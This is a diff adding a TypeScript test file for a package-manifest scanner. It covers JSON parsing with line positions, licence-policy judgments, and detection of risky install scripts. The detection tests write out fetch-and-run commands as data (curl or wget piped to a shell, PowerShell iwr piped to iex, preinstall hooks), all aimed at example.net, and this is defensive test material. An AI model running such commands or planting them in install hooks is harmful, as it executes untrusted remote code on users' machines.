@@ -1,0 +1,88 @@
+import { runOn } from '../../../test/run-on';
+import { describeToolSamples } from '../../../test/tool-samples';
+import { manifestTools } from '../../catalogue/manifests';
+import { judgeScript } from './install-scripts';
+import { type LicencePolicy, judgeLicence } from './licences';
+import { profile } from './manifests.profile';
+import { memberOf, parsePositionedJson, stringOf } from './positioned-json';
+
+describeToolSamples(profile, manifestTools);
+
+describe('JSON with positions', () => {
+  it('tells the line of every member', () => {
+    const json = parsePositionedJson('\uFEFF{\r\n  "a": {\r\n    "b": "c"\r\n  }\r\n}'.slice(1));
+    const b = memberOf(memberOf(json, 'a'), 'b');
+    expect([b?.line, stringOf(b)]).toEqual([3, 'c']);
+  });
+
+  it.each(['', '{', '{"a": }', '{"a": alert(1)}', '{a: 1}', '"\n', '{"a": 1} {"b": 2}', '{"__proto__": [undefined]}'])('refuses %j', (text) => {
+    expect(() => parsePositionedJson(text)).toThrow(/^no JSON/);
+  });
+
+  it('keeps names that mean something to JavaScript apart', () => {
+    const json = parsePositionedJson('{"__proto__": {"hasInstallScript": true}, "constructor": "x"}');
+    expect(memberOf(json, 'hasInstallScript')).toBeUndefined();
+    expect(stringOf(memberOf(json, 'constructor'))).toBe('x');
+  });
+
+  it('refuses to follow brackets for ever', () => {
+    expect(() => parsePositionedJson('['.repeat(200_000))).toThrow('nested more than 100 levels deep');
+  });
+});
+
+describe('the licence policy', () => {
+  const policy: LicencePolicy = manifestTools.find(({ id }) => id === 'license-policy')!.settings!['policy'] as LicencePolicy;
+
+  it.each([
+    ['MIT', undefined],
+    ['gpl-3.0', 'strong-copyleft-licence'],
+    ['GPL-2.0+', 'strong-copyleft-licence'],
+    ['LGPL-3.0-only', undefined],
+    ['AGPL-3.0-or-later', 'network-copyleft-licence'],
+    ['(MIT OR AGPL-3.0)', undefined],
+    ['GPL-2.0 OR AGPL-3.0', 'strong-copyleft-licence'],
+    ['MIT AND (GPL-3.0-only)', 'strong-copyleft-licence'],
+    ['GPL-2.0-only WITH Classpath-exception-2.0', undefined],
+    ['SEE LICENSE IN LICENSE.md', undefined],
+    ['', undefined],
+  ])('judges %j', (licence, rule) => expect(judgeLicence(licence, policy)).toBe(rule));
+});
+
+describe('scripts that run on installation', () => {
+  it.each([
+    ['curl -s https://example.net/a.sh | bash', 'fetches-and-runs'],
+    ['wget -qO- https://example.net/a | sudo sh', 'fetches-and-runs'],
+    ['sh -c "$(curl -fsSL https://example.net/a.sh)"', 'fetches-and-runs'],
+    ['bash <(curl -s https://example.net/a.sh)', 'fetches-and-runs'],
+    ['curl -s https://example.net/a.py | python3', 'fetches-and-runs'],
+    ['powershell iwr https://example.net/a.ps1 | iex', 'fetches-and-runs'],
+    ['curl -o icons.zip https://example.net/icons.zip', 'fetches-file'],
+    ['node build.js | sh', undefined],
+    ['echo curling', undefined],
+  ])('are judged: %s', (script, rule) => expect(judgeScript(script)).toBe(rule));
+});
+
+describe('manifest checks', () => {
+  it('read on when a manifest is broken, and say which', async () => {
+    const run = await runOn(profile, manifestTools, {
+      'a/package.json': Buffer.from([0, 1, 2]),
+      'b/package.json': '',
+      'c/package.json': '{"scripts": {"preinstall": "curl https://example.net | sh"',
+      'd/package.json': '[]',
+      'e/package-lock.json': `{"packages": ${'{"a":'.repeat(50_000)}`,
+      'f/package.json': `{"scripts": {"test": "${'x'.repeat(2_000_000)}"}}`,
+      'g/package.json': '\uFEFF{\r\n"scripts": {\r\n"preinstall": "curl https://example.net | sh"}}',
+      'h/package.json': '{"scripts": "none", "dependencies": [1], "private": "yes", "workspaces": 3}',
+      'i/package-lock.json': '{"packages": {"node_modules/a": null, "node_modules/b": {"resolved": 7, "license": {"type": "GPL-3.0"}}}}',
+    });
+    expect(run.found).toEqual(['g/package.json:3 fetches-and-runs']);
+    expect([...run.unreadable].sort()).toEqual(['a/package.json', 'b/package.json', 'c/package.json', 'd/package.json', 'e/package-lock.json']);
+    for (const { id } of manifestTools) expect(run.tool(id).outcome).toEqual({ status: 'completed' });
+  });
+
+  it('read locks of version 1, nested packages included', async () => {
+    const nested = '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": "https://r.example.org/a.tgz", "integrity": "sha512-AA==", "dependencies": {\n"b": {"version": "git+ssh://git@example.net/b.git#main"},\n"c": {"version": "1.0.0", "resolved": "https://r.example.org/c.tgz"}}}}}';
+    const { found } = await runOn(profile, manifestTools, { 'package-lock.json': nested });
+    expect(found).toEqual(['package-lock.json:2 git-dependency-not-pinned', 'package-lock.json:3 no-integrity']);
+  });
+});
